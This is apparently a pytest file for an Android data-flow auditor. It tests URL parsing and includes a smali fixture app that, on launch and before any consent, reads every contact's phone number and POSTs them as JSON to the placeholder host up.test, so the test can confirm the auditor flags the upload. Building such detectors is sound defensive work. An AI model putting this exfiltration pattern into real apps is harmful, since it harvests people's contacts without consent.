"""Addresses as they are told, and the flows of a whole small app with their fields and triggers."""

from __future__ import annotations

import pytest

from auditor.flows.endpoints import addresses, split_url
from auditor.flows.values import ANY, Template, Value, of
from auditor.model import Scope, SinkKind
from tests.flow_fixture import flows_of, knowledge


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        pytest.param(of("https://a.test/x"), ["https://a.test/x"], id="a constant"),
        pytest.param(of("b", "a", ""), ["a", "b"], id="sorted, without the empty one"),
        pytest.param(
            of(Template(("https://a.test/", None))), ["https://a.test/{?}"], id="a gap at the end"
        ),
        pytest.param(of(Template((None, "/up?id=", None))), ["{?}/up?id={?}"], id="gaps around"),
        pytest.param(of(Template((None, "/"))), [], id="nothing but signs"),
        pytest.param(of(0), [], id="a number"),
        pytest.param(ANY, [], id="unknown"),
        pytest.param(
            of(*(f"u{n}" for n in range(10, 30))),
            [f"u{n}" for n in range(10, 18)],
            id="eight at most",
        ),
    ],
)
def test_addresses(value: Value, expected: list[str]) -> None:
    assert addresses(value) == expected


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("https://a.test:8443/x/y?q=1", ("https", "a.test:8443", "/x/y")),
        ("http://user:pw@a.test/x", ("http", "a.test", "/x")),
        ("10.0.0.1:9000", ("", "10.0.0.1:9000", "")),
        ("{?}/up", ("", "", "/up")),
        ("https://{?}/up", ("https", "", "/up")),
        ("https://a.test/{?}/x?y", ("https", "a.test", "/{?}/x")),
        ("up/now", ("", "up", "/now")),
        ("https://[::1", ("", "", "https://[::1")),
        ("", ("", "", "")),
    ],
)
def test_split_url(url: str, expected: tuple[str, str, str]) -> None:
    assert split_url(url) == expected


APP = """
.class public Lt/Main;
.super Landroid/app/Activity;
.implements Ljava/lang/Runnable;
.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/app/Activity;-><init>()V
    return-void
.end method
.method public onCreate(Landroid/os/Bundle;)V
    .registers 3
    new-instance v0, Ljava/lang/Thread;
    invoke-direct {v0, p0}, Ljava/lang/Thread;-><init>(Ljava/lang/Runnable;)V
    invoke-virtual {v0}, Ljava/lang/Thread;->start()V
    return-void
.end method
.method public run()V
    .registers 10
    invoke-virtual {p0}, Lt/Main;->getContentResolver()Landroid/content/ContentResolver;
    move-result-object v0
    sget-object v1, Landroid/provider/ContactsContract$CommonDataKinds$Phone;->CONTENT_URI:Landroid/net/Uri;
    const/4 v2, 0
    const/4 v3, 0
    const/4 v4, 0
    const/4 v5, 0
    invoke-virtual/range {v0 .. v5}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
    move-result-object v0
    new-instance v1, Lorg/json/JSONArray;
    invoke-direct {v1}, Lorg/json/JSONArray;-><init>()V
    :next
    invoke-interface {v0}, Landroid/database/Cursor;->moveToNext()Z
    move-result v2
    if-eqz v2, :done
    new-instance v2, Lorg/json/JSONObject;
    invoke-direct {v2}, Lorg/json/JSONObject;-><init>()V
    const-string v3, "data1"
    invoke-interface {v0, v3}, Landroid/database/Cursor;->getColumnIndex(Ljava/lang/String;)I
    move-result v3
    invoke-interface {v0, v3}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;
    move-result-object v3
    const-string v4, "mobile"
    invoke-virtual {v2, v4, v3}, Lorg/json/JSONObject;->put(Ljava/lang/String;Ljava/lang/Object;)Lorg/json/JSONObject;
    invoke-virtual {v1, v2}, Lorg/json/JSONArray;->put(Ljava/lang/Object;)Lorg/json/JSONArray;
    goto :next
    :done
    invoke-virtual {v1}, Lorg/json/JSONArray;->toString()Ljava/lang/String;
    move-result-object v1
    new-instance v2, Ljava/net/URL;
    const-string v3, "https://up.test/book"
    invoke-direct {v2, v3}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
    invoke-virtual {v2}, Ljava/net/URL;->openConnection()Ljava/net/URLConnection;
    move-result-object v2
    check-cast v2, Ljava/net/HttpURLConnection;
    const-string v3, "POST"
    invoke-virtual {v2, v3}, Ljava/net/HttpURLConnection;->setRequestMethod(Ljava/lang/String;)V
    invoke-virtual {v2}, Ljava/net/HttpURLConnection;->getOutputStream()Ljava/io/OutputStream;
    move-result-object v2
    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
    move-result-object v1
    invoke-virtual {v2, v1}, Ljava/io/OutputStream;->write([B)V
    return-void
.end method
"""  # noqa: E501


def test_a_contact_upload_is_told_with_all_that_matters() -> None:
    flows, limits = flows_of(APP, knowledge())
    assert limits == []
    (flow,) = flows
    assert flow.data_type == "contacts"
    assert (flow.scope, flow.sink_kind) == (Scope.BULK, SinkKind.NETWORK)
    assert (flow.endpoint, flow.http_method) == ("https://up.test/book", "POST")
    assert flow.fields == ("data1", "mobile")
    assert (flow.trigger, flow.before_consent) == ("launcher_start", True)
    assert flow.source.caller == flow.sink.caller == "Lt/Main;->run()V"
    assert [s.kind for s in flow.steps][:1] == ["source"]
    assert flow.steps[-1].kind == "sink"
    assert flow.steps[-1].text == "sends: OutputStream.write"
    assert flow.source.offset == flow.steps[0].offset < flow.steps[-1].offset == flow.sink.offset
